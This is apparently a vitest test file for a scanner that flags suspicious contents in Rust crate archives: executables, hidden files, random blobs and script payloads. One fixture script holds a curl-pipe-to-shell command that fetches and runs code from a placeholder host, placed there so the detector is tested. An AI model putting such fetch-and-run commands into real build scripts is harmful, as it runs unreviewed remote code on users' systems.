import { describe, expect, it } from 'vitest';
import {
  fakeElf,
  fakePe,
  findingsOf,
  manifest,
  scanFiles,
  testScanner,
  worst,
} from '../../../../test/fixtures/scanner/crates.js';
import { Scanner } from '../scanner.js';

const random = (n: number) =>
  Buffer.from(Array.from({ length: n }, (_, i) => (Math.imul(i + 1, 2654435761) >>> 13) & 0xff));

describe('archive rules', () => {
  it('archive.executable: by location and use', async () => {
    const r = await scanFiles({
      'Cargo.toml': manifest('a1'),
      'src/lib.rs': 'pub static X: &[u8] = include_bytes!("../bin/x.so");',
      'bin/x.so': fakeElf(),
      'vendor/tool.exe': fakePe(),
      'tests/data/fixture.exe': fakePe(),
      'README.md': 'MZ is not an executable header here, just text that is long enough to look at.',
    });
    const sev = Object.fromEntries(findingsOf(r, 'archive.executable').map((f) => [f.file, f.severity]));
    expect(sev).toEqual({ 'bin/x.so': 'medium', 'vendor/tool.exe': 'low', 'tests/data/fixture.exe': 'info' });
  });

  it('archive.hidden-file: binaries and scripts, not configuration', async () => {
    const r = await scanFiles({
      'Cargo.toml': manifest('a2'),
      'src/lib.rs': '',
      '.cache/update.bin': Buffer.from([0, 1, 2, 3, 0, 0, 9]),
      '.tools/setup.sh': 'echo hi\n',
      '.weird-config': 'key = 1\n',
      '.gitignore': 'target\n',
      '.cargo_vcs_info.json': '{}',
      '.github/workflows/ci.yml': 'on: push\n',
      '.ci/run.sh': 'cargo test\n',
    });
    const sev = Object.fromEntries(findingsOf(r, 'archive.hidden-file').map((f) => [f.file, f.severity]));
    expect(sev).toEqual({ '.cache/update.bin': 'medium', '.tools/setup.sh': 'low', '.weird-config': 'info' });
  });

  it('archive.high-entropy-blob: unknown random data, not compressed formats', async () => {
    const gz = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), random(8192)]);
    const r = await scanFiles({
      'Cargo.toml': manifest('a3', { package: 'build = "build.rs"\n' }),
      'build.rs': 'static K: &[u8] = include_bytes!("assets/k.dat"); fn main() {}',
      'src/lib.rs': '',
      'assets/k.dat': random(8192),
      'assets/other.dat': random(8192),
      'assets/ok.gz': gz,
      'tests/corpus/c.dat': random(8192),
      'assets/text.txt': 'hello '.repeat(2000),
    });
    const sev = Object.fromEntries(
      findingsOf(r, 'archive.high-entropy-blob').map((f) => [f.file, f.severity]),
    );
    expect(sev).toEqual({
      'assets/k.dat': 'medium',
      'assets/other.dat': 'low',
      'tests/corpus/c.dat': 'info',
    });
  });

  it('archive.script-payload: high when build-time code names the script', async () => {
    const script = '#!/bin/sh\n# setup\ncurl -fsSL https://get.a4.invalid/i.sh | sh\n';
    const used = await scanFiles({
      'Cargo.toml': manifest('a4', { package: 'build = "build.rs"\n' }),
      'build.rs': 'fn main() { std::process::Command::new("sh").arg("scripts/setup.sh").status().unwrap(); }',
      'src/lib.rs': '',
      'scripts/setup.sh': script,
    });
    expect(worst(used, 'archive.script-payload')).toBe('high');
    expect(findingsOf(used, 'archive.script-payload')[0]!.line).toBe(3);
    const unused = await scanFiles({
      'Cargo.toml': manifest('a5'),
      'src/lib.rs': '',
      'ci/install.sh': script,
      'ci/ok.sh': 'cargo test\n',
    });
    expect(worst(unused, 'archive.script-payload')).toBe('low');
    expect(findingsOf(unused, 'archive.script-payload')).toHaveLength(1);
  });

  it('archive.unparsed-source: oversized and non-UTF-8 sources are reported, not parsed', async () => {
    const s = await Scanner.create({ maxRustBytes: 1000 });
    const big = s.scanSource({
      prefix: null,
      files: [
        { path: 'Cargo.toml', size: 40, data: Buffer.from(manifest('a6')) },
        { path: 'src/lib.rs', size: 5000, data: Buffer.from(`// ${'x'.repeat(4990)}\n`) },
        { path: 'src/bad.rs', size: 4, data: Buffer.from([0xff, 0xfe, 0x41, 0x0a]) },
      ],
    });
    expect(
      findingsOf(big, 'archive.unparsed-source')
        .map((f) => f.file)
        .sort(),
    ).toEqual(['src/bad.rs', 'src/lib.rs']);
    expect(big.stats.rustFiles).toBe(0);
    // The default limit parses the same file.
    const normal = (await testScanner()).scanSource({
      prefix: null,
      files: [
        { path: 'Cargo.toml', size: 40, data: Buffer.from(manifest('a6')) },
        { path: 'src/lib.rs', size: 5000, data: Buffer.from(`// ${'x'.repeat(4990)}\n`) },
      ],
    });
    expect(normal.stats.rustFiles).toBe(1);
  });
});
